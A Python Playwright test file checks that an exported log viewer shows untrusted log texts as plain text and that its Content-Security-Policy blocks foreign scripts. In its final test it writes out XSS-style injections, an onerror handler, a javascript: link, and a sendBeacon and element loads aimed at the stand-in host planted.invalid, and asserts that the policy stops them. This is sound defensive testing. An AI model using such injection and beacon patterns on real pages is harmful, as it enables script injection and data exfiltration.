# SPDX-License-Identifier: Apache-2.0
"""More than a hundred untrusted texts in every field of an exported log: each is shown as text.

The page is monitored as the tab is in `test_untrusted_text.py`.
"""

from __future__ import annotations

import base64
import hashlib
from collections.abc import Iterator

import pytest
from atlas_tab import CSP_MARK
from conftest import ExportLog
from exported_tab import ExportedTab
from playwright.sync_api import expect
from untrusted_logs import (
    ALL,
    FOLDERS,
    FOUND,
    MONITOR_SCRIPT,
    find_injections,
)
from untrusted_text import MARKUP, TEXTS, format_name

TITLE = "".join(MARKUP[1:4]) + "\u2028\u202e<!--]]>"

READ_SCRIPTS = """() => ({
  policy: document.querySelector('meta[http-equiv=Content-Security-Policy]').content,
  executed: [...document.scripts].filter(({type}) => type === '').map(({text}) => text),
  names: JSON.parse(document.querySelector('#atlas-page').textContent).title,
})"""

READ_TEXTS = "elements => elements.map((one) => one.textContent)"


@pytest.fixture
def monitored_tab(exported_tab: ExportedTab) -> Iterator[ExportedTab]:
    """A page that is checked for injections after the test."""
    exported_tab.page.add_init_script(MONITOR_SCRIPT)
    yield exported_tab
    assert find_injections(exported_tab) == []
    size = exported_tab.page.evaluate("[document.documentElement.scrollWidth, innerWidth]")
    assert size[0] <= size[1]


def test_only_our_script_is_executed(export_log: ExportLog, monitored_tab: ExportedTab) -> None:
    """Reads the page as the browser parsed it, before the tab replaces its body."""
    tab = monitored_tab
    tab.page.add_init_script(
        "const {replaceChildren} = Element.prototype;"
        "HTMLBodyElement.prototype.replaceChildren = function (...given) {"
        f"  window.parsed ??= ({READ_SCRIPTS})(); replaceChildren.apply(this, given); }};"
    )
    tab.open_file(export_log("untrusted", title=TITLE), **ALL)
    parsed = tab.page.evaluate("window.parsed")
    (script,) = parsed["executed"]
    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    assert f"script-src 'sha256-{digest}';" in parsed["policy"]
    assert parsed["names"] == TITLE
    assert tab.page.title() == TITLE
    expect(tab.app.locator("strong.title")).to_have_text(format_name(TITLE, 200))


def test_classes_events_and_shortcuts(export_log: ExportLog, monitored_tab: ExportedTab) -> None:
    tab = monitored_tab.open_file(export_log("untrusted", title=TITLE), **ALL, events="on")
    tab.app.get_by_role("button", name="Show all").click()
    sentences = tab.app.locator(".event-items .event-text")
    expect(sentences).to_have_count(len(TEXTS))
    found = set(sentences.evaluate_all(READ_TEXTS))
    assert found == {format_name(text[:400], 240) for text in TEXTS}
    assert find_injections(tab) == []
    tab.open_file(export_log("untrusted", title=TITLE), **ALL, shortcut="all")
    for summary in tab.app.locator(".shortcuts details:not([open]) summary").all():
        summary.click()
    expect(tab.app.locator(".shortcuts [data-shortcut]")).to_have_count(FOUND)
    tab.press_keys("f")
    names = tab.app.locator("#class-list .name")
    expect(names).to_have_count(100)
    expected = [format_name(text, 40) or "(no name)" for text in TEXTS[:100]]
    assert names.evaluate_all(READ_TEXTS) == expected


def test_runs_and_reasons_of_damage(export_log: ExportLog, monitored_tab: ExportedTab) -> None:
    tab = monitored_tab.open_file(
        export_log("untrusted", title=TITLE), run="lies/atlas", step=0, ready=False
    )
    tab.settle(failure="damaged")
    reason = tab.app.locator(".message p").first
    expect(reason).to_contain_text(f'manifest: "kind" is {TEXTS[0]!r}'[:60])
    options = tab.app.get_by_label("Run", exact=True).locator("option")
    assert options.count() == len(FOLDERS) + 3
    tab.page.evaluate("location.hash = '#p.atlas.run=plain%2Fatlas'")
    tab.settle(failure="")
    expect(tab.legend).to_contain_text("200 samples")


def test_the_policy_blocks_other_scripts_and_requests(
    export_log: ExportLog, exported_tab: ExportedTab
) -> None:
    """Even if text became markup, nothing would run and nothing would be sent."""
    tab = exported_tab.open_file(export_log("untrusted", title=TITLE), **ALL)
    failures: dict[str, str | None] = {}
    tab.page.on("requestfailed", lambda request: failures.update({request.url: request.failure}))
    tab.page.evaluate(
        """async () => {
          window.ran = [];
          const script = document.createElement('script');
          script.text = 'ran.push("script")';
          document.head.append(script);
          const holder = document.createElement('div');
          holder.innerHTML = '<img src="data:," onerror="ran.push(1)">' +
            '<a href="javascript:ran.push(2)">';
          document.head.append(holder);
          holder.querySelector('a').click();
          for (const name of ['img', 'iframe', 'script', 'object'])
            document.head.append(Object.assign(document.createElement(name),
              {src: 'http://planted.invalid/' + name, data: 'http://planted.invalid/data'}));
          navigator.sendBeacon('http://planted.invalid/beacon', 'text');
          await new Promise((done) => setTimeout(done, 300));
        }"""
    )
    assert tab.page.evaluate("ran") == []
    blocked = {one.partition(CSP_MARK)[2].strip() for one in tab.console_errors if CSP_MARK in one}
    assert {one.partition(" ")[0] for one in blocked} >= {
        *("script-src-elem", "script-src-attr", "img-src", "connect-src"),
    }
    tab.ignore_errors("")  # they are expected here
    # Playwright reports some of the requests that the policy blocks.
    started = {url for url in tab.all_requests if url.startswith("http")}
    assert {url: failures.get(url) for url in started} == dict.fromkeys(started, "csp")
    tab.pages |= started
